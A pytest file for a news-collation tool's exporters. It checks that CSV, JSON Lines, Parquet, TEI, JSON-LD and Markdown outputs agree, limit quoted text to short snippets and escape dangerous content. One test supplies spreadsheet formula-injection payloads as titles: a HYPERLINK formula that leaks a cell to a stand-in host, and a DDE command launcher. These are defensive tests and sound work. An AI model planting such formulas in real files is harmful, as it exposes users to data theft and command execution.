"""Exports hold the same in every form, say what was cut, and let texts out only when told to."""

from __future__ import annotations

import csv
import json
from collections.abc import Iterator, Sequence
from itertools import zip_longest
from pathlib import Path
from typing import Any

import msgspec
import pyarrow.parquet as pq
import pytest
from lxml import etree, html

from rashomon.errors import UsageError
from rashomon.model import Article, Collation
from rashomon.report import export
from rashomon.report.export import FORMS, Written, export_collations
from rashomon.report.html import render_html
from rashomon.report.tables import TABLES
from rashomon.run import collate_paths
from rashomon.settings import ReportSettings

TEI = "{http://www.tei-c.org/ns/1.0}"
SNIPPET = 8
Example = tuple[Collation, Sequence[Article]]


def written(example: Example, folder: Path, form: str, *, with_text: bool = False) -> list[str]:
    """What the export says, its files being in the folder."""
    done = list(export_collations([example], folder, form, SNIPPET, with_text=with_text))
    assert all(d.path.exists() for d in done if isinstance(d, Written))
    return [d for d in done if isinstance(d, str)]


def test_tables_are_the_same_in_every_form(example: Example, tmp_path: Path) -> None:
    """One table a noun, the same columns and rows in CSV, JSON Lines and Parquet."""
    for form in ("csv", "jsonl", "parquet"):
        written(example, tmp_path, form)
    for table, columns in TABLES.items():
        with (tmp_path / f"{table}.csv").open(encoding="utf-8", newline="") as file:
            reader = csv.DictReader(file)
            rows = list(reader)
        lines = [json.loads(line) for line in (tmp_path / f"{table}.jsonl").read_text().splitlines()]
        stored = pq.read_table(tmp_path / f"{table}.parquet")
        assert tuple(reader.fieldnames or ()) == columns
        assert tuple(stored.column_names) == columns
        assert stored.to_pylist() == lines
        assert [{c: "" if v is None else str(v) for c, v in line.items()} for line in lines] == [
            {c: v if c not in ("low", "high") or not v else str(float(v)) for c, v in row.items()} for row in rows
        ] or table == "figures"
        assert (table == "texts") == (not rows)


def test_texts_leave_only_when_told_to(example: Example, tmp_path: Path) -> None:
    """With it they do, and nothing is cut."""
    _, articles = example
    assert written(example, tmp_path, "jsonl", with_text=True) == []
    texts = [json.loads(line)["text"] for line in (tmp_path / "texts.jsonl").read_text().splitlines()]
    assert sorted(texts) == sorted(a.text for a in articles)


def pieces(folder: Path) -> Iterator[str]:
    """Every string that the files of an export hold; in linked data with what stands around it, in TEI by witness."""
    for file in sorted(folder.iterdir()):
        if file.suffix == ".csv":
            with file.open(encoding="utf-8", newline="") as lines:
                yield from (cell for row in csv.reader(lines) for cell in row)
        elif file.suffix == ".parquet":
            yield from leaves(pq.read_table(file).to_pylist())
        elif file.suffix == ".xml":
            yield from witnessed(etree.parse(file).getroot())
        elif file.suffix == ".md":
            yield from file.read_text(encoding="utf-8").replace("\\", "").splitlines()
        else:
            text = file.read_text(encoding="utf-8")
            values = [json.loads(text)] if file.suffix == ".jsonld" else map(json.loads, text.splitlines())
            yield from (leaf for value in values for leaf in leaves(value))


def leaves(value: Any) -> Iterator[str]:
    """The strings in a JSON value, and a text selector's three as one."""
    if isinstance(value, str):
        yield value
    elif isinstance(value, list):
        yield from (leaf for one in value for leaf in leaves(one))
    elif isinstance(value, dict):
        if "exact" in value:
            yield "".join(value[part] for part in ("prefix", "exact", "suffix"))
        yield from (leaf for one in value.values() for leaf in leaves(one))


def witnessed(root: etree._Element) -> Iterator[str]:
    """The title and witnesses of a TEI document, and each paragraph as each witness has it."""
    yield from (str(node.text) for node in root.iter(f"{TEI}title", f"{TEI}witness"))
    for paragraph in root.iter(f"{TEI}p"):
        yield paragraph.get("resp", "")
        for wit in {w for reading in paragraph.iter(f"{TEI}rdg") for w in (reading.get("wit") or "").split()} | {""}:
            held = [r.text or "" for r in paragraph.iter(f"{TEI}rdg") if wit in (r.get("wit") or "").split()]
            tails = [entry.tail or "" for entry in paragraph]
            between = [word for pair in zip_longest(held, tails, fillvalue="") for word in pair]
            yield " ".join([paragraph.text or "", *between])


def tokens(text: str) -> list[str]:
    """The words of a text without punctuation at their ends."""
    return [word for piece in text.split() if (word := piece.strip("“”‘’\"'.,;:!?…[]()*#-"))]


def runs_of(articles: Sequence[Article]) -> set[tuple[str, ...]]:
    """Every run of words of some reports that is one word longer than a snippet."""
    return {
        tuple(words[n : n + SNIPPET + 1])
        for article in articles
        for words in (tokens(article.text), tokens(article.title or ""))
        for n in range(len(words) - SNIPPET)
    }


LONG_STORY = (
    "Minister says the harbour authority knew for many months that the old northern crane was not safe to use at all\n\n"
    "“If even one safety report about the northern crane was ignored by anyone in this harbour, in this town or in this "
    "ministry, then I will leave this office before the end of the week and never come back,” Ilsa Brandvik told "
    "reporters who were waiting for her on the windy quay beside the wrecked lorries on Tuesday evening.\n\n"
    "“Nobody who works here slept last night.\n\n“Nobody who works here will sleep tonight either,” she said.\n\n"
    "The accident killed {n} dockers who had been loading the last lorries of the long day near the northern crane when "
    "its arm broke without any warning and fell onto the crowded quay.\n\n"
    "The union offered to go back to work next week if the cranes are inspected by an engineer whom both sides trust.\n"
)


@pytest.fixture(scope="module")
def long_story(tmp_path_factory: pytest.TempPathFactory) -> Example:
    """Three reports whose headline, quotes, sentences, labels and conditions are all long."""
    folder = tmp_path_factory.mktemp("long")
    for name, n in (("a", "12"), ("b", "14"), ("c", "at least 12")):
        (folder / f"{name}.txt").write_text(LONG_STORY.format(n=n).replace("anyone", f"any{name}one"))
    return collate_paths([folder])


@pytest.mark.parametrize("form", FORMS)
@pytest.mark.parametrize("story", ["example", "long_story"])
def test_no_long_stretch_leaves(request: pytest.FixtureRequest, tmp_path: Path, story: str, form: str) -> None:
    """Without --with-text no string of any form holds more words of a report in a row than a snippet has."""
    collated: Example = request.getfixturevalue(story)
    said = written(collated, tmp_path, form)
    assert any("cut to 8 words" in line for line in said)
    runs = runs_of(collated[1])
    for piece in pieces(tmp_path):
        words = tokens(piece)
        for n in range(len(words) - SNIPPET):
            assert tuple(words[n : n + SNIPPET + 1]) not in runs, piece


def test_no_long_stretch_stands_on_the_shared_page(long_story: Example) -> None:
    """With --share no element that stands for itself holds more words of a report in a row than a snippet has."""
    page = html.fromstring(render_html(*long_story, share=True, settings=ReportSettings(snippet_words=SNIPPET)))
    runs = runs_of(long_story[1])
    for element in page.iter("title", "h1", "h2", "h3", "td", "p", "li", "span", "q"):
        words = tokens(" ".join(map(str, element.itertext())))
        for n in range(len(words) - SNIPPET):
            assert tuple(words[n : n + SNIPPET + 1]) not in runs, words


@pytest.mark.parametrize(
    ("title", "cell"),
    [
        ('=HYPERLINK("http://x.example/?q="&A1)', '\'=HYPERLINK("http://x.example/?q="&A1)'),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(1)", "'@SUM(1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("＝1+1", "'＝1+1"),
        ("-5", "-5"),
        ("+1,200.50%", "+1,200.50%"),
        ("=", "="),
        ("Harbour = shut", "Harbour = shut"),
    ],
)
def test_no_cell_is_a_formula(example: Example, tmp_path: Path, title: str, cell: str) -> None:
    """What a spreadsheet would calculate begins with an apostrophe in CSV, and nowhere else; numbers stay numbers."""
    collation, articles = example
    cards = tuple(msgspec.structs.replace(card, title=title) for card in collation.articles)
    figures = tuple(
        msgspec.structs.replace(
            f, readings=tuple(msgspec.structs.replace(r, low=-5, high=-1.5, change="=") for r in f.readings)
        )
        for f in collation.figures
    )
    made = msgspec.structs.replace(collation, articles=cards, figures=figures), articles
    written(made, tmp_path, "csv")
    written(made, tmp_path, "jsonl")
    with (tmp_path / "articles.csv").open(encoding="utf-8", newline="") as file:
        assert {row["title"] for row in csv.DictReader(file)} == {cell}
    with (tmp_path / "figures.csv").open(encoding="utf-8", newline="") as file:
        assert {(row["low"], row["high"], row["change"]) for row in csv.DictReader(file)} == {("-5", "-1.5", "=")}
    assert {json.loads(line)["title"] for line in (tmp_path / "articles.jsonl").read_text().splitlines()} == {title}


def test_web_annotations_point_at_their_words(example: Example, tmp_path: Path) -> None:
    """Positions and quoted words of a target agree with the article they name."""
    collation, articles = example
    written(example, tmp_path, "webannotation", with_text=True)
    text = {a.url or f"urn:sha256:{a.sha256}": a.text for a in articles}
    lines = next(tmp_path.glob("*.annotations.jsonl")).read_text().splitlines()
    assert len(lines) > len(collation.quotes)
    for line in lines:
        annotation = json.loads(line)
        position, quote = annotation["target"]["selector"]
        source = text[annotation["target"]["source"]]
        assert " ".join(source[position["start"] : position["end"]].split()) == quote["exact"]
        assert source[: position["start"]].endswith(quote["prefix"])
        assert annotation["motivation"] == "describing"
    ids = [json.loads(line)["id"] for line in lines]
    assert len(ids) > 0.9 * len(set(ids))


def test_linked_data_has_no_verdicts(example: Example, tmp_path: Path) -> None:
    """Articles, quotations and claims of schema.org; a claim appears somewhere and is not rated."""
    written(example, tmp_path, "jsonld")
    graph = json.loads(next(tmp_path.glob("*.jsonld")).read_text())["@graph"]
    kinds = {node["@type"] for node in graph}
    assert kinds == {"NewsArticle", "Quotation", "Claim"}
    articles = {node["@id"] for node in graph if node["@type"] == "NewsArticle"}
    assert all(node["isPartOf"]["@id"] in articles for node in graph if node["@type"] == "Quotation")
    claims = [node for node in graph if node["@type"] == "Claim"]
    assert all(node["appearance"] and "reviewRating" not in node for node in claims)


def test_the_apparatus_is_tei(example: Example, tmp_path: Path) -> None:
    """Every quote of several reports is a paragraph; each reading of an entry names its witnesses."""
    collation, _ = example
    written(example, tmp_path, "tei")
    root = etree.parse(next(tmp_path.glob("*.tei.xml"))).getroot()
    witnesses = {f"#{w.get('{http://www.w3.org/XML/1998/namespace}id')}" for w in root.iter(f"{TEI}witness")}
    assert len(witnesses) == len(collation.articles)
    entries = list(root.iter(f"{TEI}app"))
    assert entries
    for entry in entries:
        readings = entry.findall(f"{TEI}rdg")
        assert len(readings) > 1
        assert {w for r in readings for w in (r.get("wit") or "").split()} <= witnesses


@pytest.mark.parametrize("form", FORMS)
def test_exports_are_the_same_every_time(example: Example, tmp_path: Path, form: str) -> None:
    """The same collation gives the same bytes."""
    found = []
    for name in ("one", "two"):
        (tmp_path / name).mkdir()
        written(example, tmp_path / name, form)
        found.append({p.name: p.read_bytes() for p in (tmp_path / name).iterdir()})
    assert found[0] == found[1]


def test_parquet_needs_an_extra(example: Example, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """Where pyarrow is not installed, what to install is said before anything is collated or written."""
    monkeypatch.setattr(export, "find_spec", lambda _: None)
    with pytest.raises(UsageError, match=r"rashomon\[parquet\]"):
        written(example, tmp_path, "parquet")
    assert list(tmp_path.iterdir()) == []


def test_markdown_holds_no_control_characters(example: Example, tmp_path: Path) -> None:
    """Those of a report's words, in the briefing as elsewhere, are spaces."""
    collation, articles = example
    first, *more = collation.briefing
    dirty = msgspec.structs.replace(first, text="The quay\x00 is\x1b[2J shut.")
    written((msgspec.structs.replace(collation, briefing=(dirty, *more)), articles), tmp_path, "markdown")
    [file] = tmp_path.glob("*.md")
    assert "The quay is \\[2J shut [" in file.read_text(encoding="utf-8")
